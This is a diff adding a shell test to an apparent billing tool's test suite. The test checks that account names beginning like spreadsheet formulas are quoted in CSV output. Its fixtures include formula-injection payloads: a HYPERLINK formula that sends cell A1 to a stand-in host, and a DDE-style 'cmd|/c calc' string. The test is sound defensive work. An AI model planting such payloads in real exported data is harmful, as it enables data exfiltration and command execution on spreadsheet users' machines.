@@ -399,6 +399,22 @@ pb_sql "INSERT INTO pb.partner_account_name (import_id, vendor, partner_account_
 "$PBA" suggest --month 2026-10 --rules "$R" >/dev/null
 full "approve" "$PBA" approve "$(pb_sql "SELECT id FROM pb.link_proposal WHERE partner_account_id = '200000000004'")" --by jane
 
+# Names are the customer's to write, and finance opens these CSVs in a spreadsheet: a text that a spreadsheet
+# would run as a formula is written with a quote first, as in the invoice files; numbers are left alone.
+pb_sql "INSERT INTO pb.clc_account (alias, name, billing_country, markup_percent, created_by) VALUES
+	('FX1', '=HYPERLINK(\"http://x.example/?\"&A1,\"Acme\")', 'US', -5, 'test');
+INSERT INTO pb.import (id, vendor, format, source, billing_month, status) VALUES
+	(930, 'aws', 'aws-cur', 'test:formula', '2026-08-01', 'committed');
+INSERT INTO pb.partner_account_name (import_id, vendor, partner_account_id, kind, name, line_count) VALUES
+	(930, 'aws', '200000000009', 'account_name', '@SUM(1+1)*cmd|''/c calc''!A0 (FX1)', 1)" >/dev/null
+printf 'aws: \\((?<alias>[A-Z0-9]{2,6})\\)$\n' >"$TMP/rules-fx"
+"$PBA" suggest --month 2026-08 --rules "$TMP/rules-fx" >"$TMP/out" 2>"$TMP/err"
+check "suggest: a name that starts like a formula is quoted" \
+	"0|aws,200000000009,'@SUM(1+1)*cmd|'/c calc'!A0 (FX1),FX1,$TMP/rules-fx:1,10,proposed" "$?|$(tail -n 1 "$TMP/out")"
+check "proposals and list too; the markup -5 stays a number" \
+	"'@SUM(1+1)*cmd|'/c calc'!A0 (FX1)|FX1,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Acme\"\")\",US,false,,USD,-5" \
+	"$("$PBA" proposals | grep ',FX1,' | cut -d, -f9)|$("$PBA" list | grep '^FX1,')"
+
 # ---- import-links: many links in one transaction -----------------------------------------------------------
 
 # IL1 and IL2 eligible for aws and azure, IL3 without terms; BK100 to BK299 eligible for aws.
